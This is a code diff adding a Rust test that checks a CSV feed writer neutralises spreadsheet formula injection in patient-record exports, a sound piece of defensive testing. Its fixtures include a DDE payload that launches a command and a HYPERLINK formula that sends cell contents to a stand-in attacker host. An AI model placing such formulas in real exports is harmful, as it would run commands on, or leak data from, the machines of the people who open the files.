@@ -571,3 +571,30 @@ fn other_partners_records_render_in_the_hubs_layout_and_import_there() {
         assert!(["Welcoming Conversation", "1-2-1", "Group", "Drop-in", "Phone"].contains(&f["type_code"].as_str()));
     }
 }
+
+#[test]
+fn csv_feed_cells_that_a_spreadsheet_would_run_are_made_text() {
+    use super::neutralise_formula as n;
+    for formula in
+        ["=HYPERLINK(\"http://x\")", "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3+cmd|x!A0", "\t=1", "\r=1", "-", "+"]
+    {
+        assert_eq!(n(formula), format!("'{formula}"), "{formula:?}");
+    }
+    for data in ["+44 7700 900345", "-12.5", "-3", "07700 900123", "O'Brien", "", "Zoë", "a=b"] {
+        assert_eq!(n(data), data, "{data:?}");
+    }
+    for not_plain in ["-1.2.3", "+44 ", "- 3", "-1e5"] {
+        assert_eq!(n(not_plain), format!("'{not_plain}"), "{not_plain:?}");
+    }
+
+    // Through the feed writer: a Patient whose name was typed as a formula reaches the partner as text.
+    let (catalog, original) = hub_fixtures();
+    let hub = catalog.partner("hub").unwrap();
+    let mut p = labelled(hub_resource(&original, "Patient", "HUB-1006"));
+    p["name"][0]["family"] = Value::String("=HYPERLINK(\"http://evil.example/\"&A1,\"Walsh\")".into());
+    p["name"][0]["given"] = serde_json::json!(["@SUM(1+1)"]);
+    let feed = render_csv(hub, &[p], &Anchors::new()).unwrap();
+    let file = &feed.files[0].0;
+    assert!(cell(&feed, file, 1, "Surname").starts_with("'=HYPERLINK("), "{:?}", feed.files);
+    assert_eq!(cell(&feed, file, 1, "Forename"), "'@SUM(1+1)");
+}
